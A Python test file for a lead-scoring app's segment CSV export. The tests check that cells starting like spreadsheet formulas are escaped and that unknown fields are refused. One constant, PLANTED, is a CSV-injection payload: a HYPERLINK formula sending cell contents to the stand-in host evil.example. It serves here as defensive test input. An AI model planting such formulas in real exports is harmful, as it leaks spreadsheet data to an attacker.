"""Segment exports: members with the traits and scores a user picks (`fields=`), CSV cells a
spreadsheet would run as formulas escaped, unknown fields refused."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient

from leadscore.api.app import create_app
from leadscore.config import Settings, hash_token
from leadscore.csvtext import cell
from leadscore.programs.live import open_lifecycle
from leadscore.service import Service
from leadscore.timeutil import iso, now_us
from tests.programs.world import write_world

PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_cells_that_start_a_formula_are_escaped() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert cell("Ann") == "Ann" and cell(-3) == -3 and cell({"a": 1}) == '{"a": 1}'


def test_members_export_carries_picked_traits_and_scores_escaped(db_url: str,
                                                                 tmp_path: Path) -> None:
    root = write_world(tmp_path)
    (root / "segments").mkdir()
    (root / "segments" / "subscribers.yaml").write_text(
        "name: subscribers\nmodel: shop\nwhen: {did: {event: Newsletter Subscribed}}\n")
    settings = Settings(db=db_url, models_dir=str(root / "models"),
                        admin_token_sha256=hash_token("tok"), log_requests=False)
    service = Service.open(db_url, models_dir=root / "models", background=False)
    try:
        t0 = now_us() - 60_000_000
        for i, (user, name) in enumerate((("ann", "Ann"), ("eve", PLANTED))):
            service.ingest([
                {"type": "identify", "userId": user, "messageId": f"i{i}", "timestamp": iso(t0),
                 "traits": {"email": f"{user}@x.example", "first_name": name}},
                {"type": "track", "userId": user, "messageId": f"t{i}", "timestamp": iso(t0),
                 "event": "Newsletter Subscribed"}])
        life = open_lifecycle(service, settings, folder=root)
        life.run_once()
        app = create_app(settings, service)
        app.state.lifecycle = life
        with TestClient(app) as client:
            auth = {"Authorization": "Bearer tok"}
            url = "/api/segments/subscribers/members"
            got = client.get(url, headers=auth, params={
                "format": "csv", "fields": "traits.first_name,traits.email,score,stage"})
            assert got.status_code == 200, got.text
            rows = {r["lead_id"]: r for r in csv.DictReader(io.StringIO(got.text))}
            assert rows["ann"]["traits.first_name"] == "Ann"
            assert rows["ann"]["traits.email"] == "ann@x.example"
            assert float(rows["ann"]["score"]) == 5.0 and rows["ann"]["stage"] == "subscriber"
            assert rows["eve"]["traits.first_name"] == "'" + PLANTED      # not a formula
            listed = client.get(url, headers=auth, params={"fields": "fit,traits.nope"}).json()
            assert {m["lead_id"]: (m["fit"], m["traits.nope"]) for m in listed["members"]} == {
                "ann": (0.0, None), "eve": (0.0, None)}
            bad = client.get(url, headers=auth, params={"fields": "traits.email,password"})
            assert bad.status_code == 422 and "'password'" in bad.text
            assert client.get(url, headers=auth, params={"fields": "score", "model": "nope"}
                              ).status_code == 422
    finally:
        service.close()
